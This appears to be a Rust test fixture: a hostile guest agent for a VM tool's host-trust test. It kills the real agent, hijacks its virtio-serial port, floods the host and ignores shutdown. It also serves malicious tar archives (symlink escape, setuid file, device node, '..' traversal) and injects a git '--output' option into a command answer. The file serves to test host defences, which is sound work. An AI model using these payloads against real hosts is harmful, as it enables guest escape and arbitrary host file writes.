//! A hostile guest agent, for the host-trust test
//! (`banger-cli/tests/hostile.rs`). Not part of banger: it is what root in
//! a guest can do to the host, made concrete.
//!
//! Run in a guest whose real agent is not PID 1 (an image with an init),
//! it forks away, kills the real agent, takes over its virtio-serial port
//! and speaks banger's protocol the way an attacker would:
//!
//! - `exec flood`: a flood of data frames far past the stream's window,
//!   then of connection messages nobody asked for, until the host hangs up;
//! - a new host connection's `hello`: the first answered without
//!   `flow_control`, the next ones with it;
//! - `copy_out /symlinked`, `/setuid`, `/device`, `/dotdot`: a tar with a
//!   symlink out of the destination and entries through it, a setuid file,
//!   a device node, a `..` name;
//! - the workspace export script: an answer whose base is a git option
//!   (`--output=/tmp/banger-hostile-<tip>`), its tip a commit the host has;
//! - `shutdown`: never acknowledged;
//! - any other exec: started and exited 0 at once.
//!
//! Build it like the agent (static): `scripts/build-hostile-agent.sh`.

use std::fs::{File, OpenOptions};
use std::io::{self, Write};
use std::path::{Path, PathBuf};
use std::time::Duration;

use banger_proto::flow::MAX_CHUNK;
use banger_proto::{
    CONTROL_STREAM, ExitStatus, Frame, FrameKind, Message, PROTOCOL_VERSION, VIRTIO_PORT_NAME,
    caps, read_frame,
};

fn log(msg: &str) {
    // The console: the test reads it back when something goes wrong.
    if let Ok(mut c) = OpenOptions::new().write(true).open("/dev/console") {
        let _ = writeln!(c, "hostile-agent: {msg}");
    }
}

fn main() {
    // SAFETY: fork in a single-threaded process; the parent only exits.
    match unsafe { libc::fork() } {
        0 => {}
        -1 => std::process::exit(1),
        // The exec that started us returns at once, before its agent goes.
        _ => std::process::exit(0),
    }
    // SAFETY: setsid in the fresh child: away from the exec's session;
    // then off the exec's pipes, which would keep it open.
    unsafe { libc::setsid() };
    if let Ok(null) = OpenOptions::new().read(true).write(true).open("/dev/null") {
        use std::os::fd::AsRawFd;
        for fd in 0..3 {
            // SAFETY: dup2 onto the standard descriptors of this process.
            unsafe { libc::dup2(null.as_raw_fd(), fd) };
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    let port = find_port().expect("no banger.agent port");
    kill_holders(&port);
    let mut tries = 0;
    let file = loop {
        match OpenOptions::new().read(true).write(true).open(&port) {
            Ok(f) => break f,
            Err(e) if tries < 200 => {
                tries += 1;
                let _ = e;
                std::thread::sleep(Duration::from_millis(25));
            }
            Err(e) => {
                log(&format!("cannot open {}: {e}", port.display()));
                std::process::exit(1);
            }
        }
    };
    log(&format!("took over {}", port.display()));
    serve(file);
}

/// `/dev/vportNpM` whose sysfs name is the agent's.
fn find_port() -> Option<PathBuf> {
    for e in std::fs::read_dir("/sys/class/virtio-ports").ok()?.flatten() {
        let name = std::fs::read_to_string(e.path().join("name")).unwrap_or_default();
        if name.trim() == VIRTIO_PORT_NAME {
            return Some(Path::new("/dev").join(e.file_name()));
        }
    }
    None
}

/// SIGKILLs every process holding `port` open (the real agent).
fn kill_holders(port: &Path) {
    let me = std::process::id().to_string();
    for p in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let pid = p.file_name().to_string_lossy().into_owned();
        if pid == me || !pid.bytes().all(|b| b.is_ascii_digit()) {
            continue;
        }
        let holds = std::fs::read_dir(p.path().join("fd"))
            .into_iter()
            .flatten()
            .flatten()
            .any(|fd| std::fs::read_link(fd.path()).is_ok_and(|l| l == port));
        if holds && let Ok(n) = pid.parse::<i32>() {
            log(&format!("killing the agent, pid {n}"));
            // SAFETY: kill(2) of a pid we just read.
            unsafe { libc::kill(n, libc::SIGKILL) };
        }
    }
}

struct Conn {
    port: File,
    hellos: u32,
}

impl Conn {
    fn send(&mut self, f: &Frame) -> io::Result<()> {
        let buf = f
            .encode()
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
        self.port.write_all(&buf)
    }

    fn control(&mut self, stream: u32, m: Message) -> io::Result<()> {
        self.send(&Frame::control(stream, m))
    }

    fn data(&mut self, stream: u32, bytes: &[u8]) -> io::Result<()> {
        for chunk in bytes.chunks(MAX_CHUNK) {
            self.send(&Frame::Data {
                stream,
                kind: FrameKind::Stdout,
                data: chunk.to_vec(),
            })?;
        }
        Ok(())
    }
}

fn serve(port: File) {
    let mut reader = port.try_clone().expect("dup the port");
    let mut c = Conn { port, hellos: 0 };
    loop {
        let frame = match read_frame(&mut reader) {
            Ok(Some(f)) => f,
            // No host connected (the daemon cut us off): wait for the next.
            Ok(None) | Err(_) => {
                std::thread::sleep(Duration::from_millis(50));
                continue;
            }
        };
        if let Err(e) = handle(&mut c, frame) {
            log(&format!("write: {e}"));
        }
    }
}

fn handle(c: &mut Conn, frame: Frame) -> io::Result<()> {
    let Frame::Control { stream, message } = frame else {
        return Ok(());
    };
    match message {
        Message::Hello { .. } => {
            c.hellos += 1;
            // First a pre-flow-control agent, then a current one.
            let capabilities = if c.hellos == 1 {
                vec![caps::EXEC.to_string(), caps::PTY.to_string()]
            } else {
                caps::AGENT.iter().map(|s| s.to_string()).collect()
            };
            log(&format!("hello #{}", c.hellos));
            c.control(
                CONTROL_STREAM,
                Message::Ready {
                    agent_version: "hostile".into(),
                    protocol_version: PROTOCOL_VERSION,
                    capabilities,
                },
            )
        }
        Message::Ping { nonce } => c.control(CONTROL_STREAM, Message::Pong { nonce }),
        // Never acknowledged: the host must not wait for it.
        Message::Shutdown { .. } => {
            log("shutdown asked; ignoring it");
            Ok(())
        }
        Message::Exec(req) if req.argv.first().is_some_and(|a| a == "flood") => flood(c, stream),
        Message::Exec(req) if req.argv.iter().any(|a| a.contains("refs/banger/synced")) => {
            // The export script's answer, "<tip> <synced>": a commit the
            // host has (left in /tip beforehand) and a git option, which
            // `git rev-list --count <synced>..<tip>` would take as one and
            // write a host file.
            c.control(stream, Message::Started { pid: 4242 })?;
            let tip = std::fs::read_to_string("/tip").unwrap_or_default();
            let tip = tip.trim();
            let short = tip.get(..12).unwrap_or(tip);
            let line = format!("{tip} --output=/tmp/banger-hostile-{short}\n");
            c.data(stream, line.as_bytes())?;
            c.control(stream, Message::Exited(ExitStatus::Code { code: 0 }))
        }
        Message::Exec(_) => {
            c.control(stream, Message::Started { pid: 4242 })?;
            c.control(stream, Message::Exited(ExitStatus::Code { code: 0 }))
        }
        Message::CopyOut { path, .. } => {
            let tar = evil_tar(path.trim_start_matches('/'));
            c.control(stream, Message::Opened)?;
            c.data(stream, &tar)?;
            c.control(stream, Message::Eof)?;
            c.control(stream, Message::Done)
        }
        _ => Ok(()),
    }
}

/// Data far past the stream's window (the host aborts the stream and drops
/// the rest), then connection messages nobody asked for (the host cuts the
/// connection off).
fn flood(c: &mut Conn, stream: u32) -> io::Result<()> {
    c.control(stream, Message::Started { pid: 4242 })?;
    log("flooding");
    let chunk = vec![0x55u8; MAX_CHUNK];
    for _ in 0..(64 << 20) / MAX_CHUNK {
        if c.data(stream, &chunk).is_err() {
            break;
        }
    }
    let mut sent = 0u64;
    for nonce in 0..100_000u64 {
        if hung_up(&c.port) || c.control(CONTROL_STREAM, Message::Pong { nonce }).is_err() {
            break;
        }
        sent += 1;
    }
    log(&format!(
        "flood over: the host hung up after {sent} messages"
    ));
    Ok(())
}

/// Whether the host end of the port is gone (the daemon cut us off): so
/// the flood stops there, and the next connection starts clean.
fn hung_up(port: &File) -> bool {
    use std::os::fd::AsRawFd;
    let mut p = libc::pollfd {
        fd: port.as_raw_fd(),
        events: libc::POLLOUT,
        revents: 0,
    };
    // SAFETY: poll on one descriptor we own, no wait.
    let n = unsafe { libc::poll(&mut p, 1, 0) };
    n > 0 && p.revents & libc::POLLHUP != 0
}

/// One raw tar entry: name bytes as given (so `..` gets in), `kind` the
/// type flag.
fn entry(out: &mut Vec<u8>, name: &str, kind: u8, mode: u32, link: &str, data: &[u8]) {
    let mut h = [0u8; 512];
    h[..name.len()].copy_from_slice(name.as_bytes());
    let octal = |h: &mut [u8; 512], at: usize, width: usize, v: u64| {
        let s = format!("{v:0w$o}\0", w = width - 1);
        h[at..at + width].copy_from_slice(s.as_bytes());
    };
    octal(&mut h, 100, 8, u64::from(mode));
    octal(&mut h, 108, 8, 0);
    octal(&mut h, 116, 8, 0);
    octal(&mut h, 124, 12, data.len() as u64);
    octal(&mut h, 136, 12, 1_700_000_000);
    h[156] = kind;
    h[157..157 + link.len()].copy_from_slice(link.as_bytes());
    if kind == b'3' {
        octal(&mut h, 329, 8, 1);
        octal(&mut h, 337, 8, 3);
    }
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|b| u32::from(*b)).sum();
    let s = format!("{sum:06o}\0 ");
    h[148..156].copy_from_slice(s.as_bytes());
    out.extend_from_slice(&h);
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
}

/// The tar the host asked for, poisoned by its name.
fn evil_tar(name: &str) -> Vec<u8> {
    let mut t = Vec::new();
    match name {
        // A link out of the destination (dest/<name>/a -> ../../outside),
        // the same name as a wide-open directory (RUSTSEC-2026-0067), and
        // a file through it.
        "symlinked" => {
            entry(&mut t, "symlinked/", b'5', 0o755, "", b"");
            entry(&mut t, "symlinked/a", b'2', 0o777, "../../outside", b"");
            entry(&mut t, "symlinked/a/", b'5', 0o777, "", b"");
            entry(&mut t, "symlinked/a/PWNED", b'0', 0o644, "", b"pwned\n");
        }
        "linkthrough" => {
            entry(&mut t, "linkthrough/", b'5', 0o755, "", b"");
            entry(&mut t, "linkthrough/a", b'2', 0o777, "../../outside", b"");
            entry(&mut t, "linkthrough/a/PWNED", b'0', 0o644, "", b"pwned\n");
        }
        "setuid" => entry(&mut t, "setuid", b'0', 0o4755, "", b"#!/bin/sh\nid\n"),
        "device" => entry(&mut t, "device", b'3', 0o666, "", b""),
        "dotdot" => {
            entry(&mut t, "dotdot/", b'5', 0o755, "", b"");
            entry(
                &mut t,
                "dotdot/../../outside/PWNED",
                b'0',
                0o644,
                "",
                b"pwned\n",
            );
        }
        other => entry(&mut t, other, b'0', 0o644, "", b"plain\n"),
    }
    t.extend_from_slice(&[0u8; 1024]);
    t
}
